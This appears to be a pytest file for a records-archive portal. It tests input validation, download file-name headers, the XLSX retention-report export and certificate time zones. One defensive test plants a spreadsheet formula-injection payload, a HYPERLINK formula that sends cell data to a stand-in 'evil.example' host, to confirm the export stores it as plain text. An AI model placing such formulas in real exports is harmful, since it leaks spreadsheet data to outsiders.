"""Input the archive never answers with a 500; download names; the XLSX export; the certificate's time zone."""
from __future__ import annotations

import io
import re
from datetime import UTC, date, datetime
from urllib.parse import unquote

import openpyxl
import pytest

from portal.blueprints.archive import services
from portal.blueprints.archive.models import RecordFile, Series
from portal.extensions import db


@pytest.mark.parametrize("url", [
    "/archive/?year=99999", "/archive/?year=-1", "/archive/?year=abc",
    "/archive/?series=99999999999999999999", "/archive/?series=-5", "/archive/?customer=9223372036854775808",
    "/archive/?page=99999999999999999999", "/archive/file?series=99999999999999999999",
    "/archive/report?as_of=9999-12-31", "/archive/report.xlsx?as_of=9999-12-31", "/archive/report?as_of=2026-02-30",
    "/archive/schedule?as_of=9999-12-31", "/archive/files/9223372036854775808", "/archive/records/9223372036854775808",
    "/archive/series/99999999999999999999", "/archive/batches/9223372036854775808",
    "/archive/records/99999999999999999999/extraction",
])
def test_out_of_range_numbers_and_dates_are_404_not_500(app, client, login, url):
    login("records_officer")
    assert client.get(url).status_code == 404


def test_numbers_in_range_still_filter(app, client, login, officer):
    services.file_document(kind="inquiry", title="Inquiry of 2024", files=[("a.txt", b"a")], user=officer,
                           record_date=date(2024, 5, 1))
    db.session.commit()
    login("records_officer")
    assert "Inquiry of 2024" in client.get("/archive/?year=2024").get_data(as_text=True)
    assert "Inquiry of 2024" not in client.get("/archive/?year=2023").get_data(as_text=True)
    assert client.get("/archive/report?as_of=2999-12-31").status_code == 200


def test_huge_numbers_posted_to_forms_are_form_errors(app, client, login):
    login("records_officer")
    response = client.post("/archive/file", data={"series_id": "99999999999999999999", "title": "x",
                                                  "record_date": "2026-01-01", "customer_id": "99999999999999999999"})
    assert response.status_code == 200
    response = client.post("/archive/holds", data={"scope": "series", "series_id": "99999999999999999999",
                                                   "reason": "audit"})
    assert response.status_code == 200
    response = client.post("/archive/batches", data={"as_of": "2026-06-01", "record_id": "99999999999999999999"})
    assert response.status_code in (200, 302)


@pytest.mark.parametrize("name", ["投诉证据（现场照片）.txt", "tank 😀 report.txt", 'say "hi"; it\'s fine.txt'])
def test_downloads_carry_any_file_name(app, client, login, name):
    login("csr")
    services.series_for_kind("document")
    series = db.session.scalar(db.select(Series).filter_by(code="CS-11"))
    response = client.post("/archive/file", data={
        "files": [(io.BytesIO(f"evidence {name}".encode()), name)], "series_id": series.id, "title": "Evidence",
        "record_date": "2026-03-01", "customer_id": 0}, content_type="multipart/form-data")
    assert response.status_code == 302
    stored = db.session.scalar(db.select(RecordFile)).filename
    with client.get(f"/archive/files/{db.session.scalar(db.select(RecordFile.id))}") as download:
        assert download.status_code == 200
        header = download.headers["Content-Disposition"]
        assert header.startswith("attachment;") and header.isascii()
        assert download.headers["X-Content-Type-Options"] == "nosniff"
        encoded = re.search(r"filename\*=UTF-8''(\S+)", header)
        got = unquote(encoded.group(1)) if encoded else re.search(r'filename="([^"]*)"', header).group(1)
        assert got == stored
        assert download.data == f"evidence {name}".encode()


def test_retention_report_xlsx_stores_formula_like_text_as_text(app, client, login, officer):
    services.series_for_kind("inquiry")
    series = db.session.scalar(db.select(Series).filter_by(code="CS-03-01"))
    series.title_en = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    series.title_zh = "@SUM(1+1)"
    series.trigger, series.trigger_label = "event", "-2+3"  # an event trigger prints the plan's own words
    services.file_document(kind="inquiry", title="x", files=[("a.txt", b"a")], user=officer,
                           record_date=date(2020, 1, 1))
    db.session.commit()
    login("records_officer")
    response = client.get("/archive/report.xlsx?as_of=2026-06-01")
    assert response.status_code == 200
    assert "retention-report-2026-06-01.xlsx" in response.headers["Content-Disposition"]
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).active
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (series.title_en, "@SUM(1+1)", "-2+3"):
        assert cells[text].data_type == "s", text  # text, never a live formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def test_destruction_certificate_prints_times_in_the_portal_time_zone(app, officer, manager, monkeypatch):
    record = services.file_document(kind="inquiry", title="Old inquiry", files=[("q.txt", b"inquiry")], user=officer,
                                    record_date=date(2019, 1, 1))
    db.session.commit()
    late_evening_utc = datetime(2026, 11, 30, 23, 30, tzinfo=UTC)  # 2026-12-01 07:30 in Asia/Shanghai
    monkeypatch.setattr(services, "utcnow", lambda: late_evening_utc)
    batch = services.propose_batch(user=officer, record_ids=[record.id], as_of=date(2026, 6, 1))
    batch.proposed_at = late_evening_utc
    services.decide_batch(batch, user=manager, approve=True)
    db.session.commit()
    services.execute_batch(batch, user=officer, checkpoint=db.session.commit)
    db.session.commit()
    text = batch.certificate.extracted_text
    assert "2026-12-01 07:30" in text
    assert "2026-11-30" not in text and "23:30" not in text
